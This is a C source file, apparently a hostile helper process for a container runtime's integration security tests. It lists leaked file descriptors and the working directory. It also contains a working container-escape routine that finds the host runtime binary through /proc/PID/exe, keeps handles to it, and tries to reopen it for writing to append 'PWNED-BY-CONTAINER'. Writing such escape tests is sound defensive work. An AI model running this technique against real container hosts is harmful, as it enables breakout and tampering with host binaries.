/* Hostile container process for integration/tests/security.rs.
 *
 *   attack fds               print "fd N -> TARGET magic=HEX" for every open fd
 *                            but the one used to list them
 *   attack cwd               print "cwd=<getcwd()>" (or "cwd-error=errno")
 *   attack race HOSTPATH OUT STOP
 *                            until STOP exists: for every visible pid, try
 *                            /proc/PID/exe; note any that resolves to
 *                            HOSTPATH, keep an O_PATH handle to it and try to
 *                            reopen it for writing; then retry every handle
 *                            for writing once more (ETXTBSY is gone by then)
 *                            and append results to OUT, ending with "done".
 *   attack reopen FD OUT     (the second half of payload.c) until the file
 *                            behind FD stops being busy, reopen it for
 *                            writing and append a marker to it
 *
 * Results are lines of text; the test decides what they mean.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <unistd.h>

static int fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) { perror("opendir"); return 1; }
    int self = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        int fd = atoi(e->d_name);
        if (fd == self) continue;
        char p[64], t[4096];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, t, sizeof t - 1);
        t[n < 0 ? 0 : n] = 0;
        struct statfs s;
        long magic = fstatfs(fd, &s) == 0 ? (long)s.f_type : -1;
        printf("fd %d -> %s magic=%lx\n", fd, t, magic);
    }
    closedir(d);
    return 0;
}

static int cwd(void) {
    char b[4096];
    if (getcwd(b, sizeof b)) printf("cwd=%s\n", b);
    else printf("cwd-error=%d\n", errno);
    return 0;
}

#define MAXH 64
static int race(const char *host, const char *outp, const char *stop) {
    FILE *out = fopen(outp, "a");
    if (!out) { perror(outp); return 1; }
    setvbuf(out, NULL, _IOLBF, 0);
    int handles[MAXH], nh = 0;
    long scans = 0, seen = 0;
    pid_t me = getpid();
    fprintf(out, "start\n");
    while (access(stop, F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d) { fprintf(out, "no-proc\n"); break; }
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me) continue;
            char p[64], t[4096];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            ssize_t n = readlink(p, t, sizeof t - 1);
            if (n < 0) continue;
            t[n] = 0;
            seen++;
            if (strcmp(t, host) != 0) continue;
            fprintf(out, "saw-host-binary pid=%d\n", pid);
            int h = open(p, O_PATH | O_CLOEXEC);
            if (h < 0) { fprintf(out, "handle-refused errno=%d\n", errno); continue; }
            fprintf(out, "handle pid=%d\n", pid);
            char q[64];
            snprintf(q, sizeof q, "/proc/self/fd/%d", h);
            int w = open(q, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) { fprintf(out, "WRITABLE pid=%d\n", pid); write(w, "", 0); close(w); }
            if (nh < MAXH) handles[nh++] = h; else close(h);
        }
        closedir(d);
        scans++;
    }
    for (int i = 0; i < nh; i++) {
        char q[64];
        snprintf(q, sizeof q, "/proc/self/fd/%d", handles[i]);
        int w = open(q, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) {
            fprintf(out, "WRITABLE-after handle=%d\n", i);
            if (write(w, "PWNED-BY-CONTAINER\n", 19) == 19) fprintf(out, "WROTE-HOST-BINARY\n");
            close(w);
        } else fprintf(out, "reopen-refused errno=%d\n", errno);
    }
    fprintf(out, "scans=%ld seen=%ld handles=%d\ndone\n", scans, seen, nh);
    return 0;
}

static int reopen(int fd, const char *outp) {
    FILE *out = fopen(outp, "a");
    if (!out) return 1;
    setvbuf(out, NULL, _IOLBF, 0);
    char q[64];
    snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200; i++) {
        int w = open(q, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) {
            if (write(w, "PWNED-BY-CONTAINER\n", 19) == 19) fprintf(out, "WROTE-HOST-BINARY\n");
            else fprintf(out, "write-refused errno=%d\n", errno);
            fprintf(out, "done\n");
            return 0;
        }
        if (errno != ETXTBSY) { fprintf(out, "reopen-refused errno=%d\ndone\n", errno); return 0; }
        usleep(50000);
    }
    fprintf(out, "busy-until-timeout\ndone\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
    if (argc >= 2 && !strcmp(argv[1], "cwd")) return cwd();
    if (argc >= 4 && !strcmp(argv[1], "reopen")) return reopen(atoi(argv[2]), argv[3]);
    if (argc >= 5 && !strcmp(argv[1], "race")) return race(argv[2], argv[3], argv[4]);
    fprintf(stderr, "usage: attack fds|cwd|race HOST OUT STOP\n");
    return 2;
}
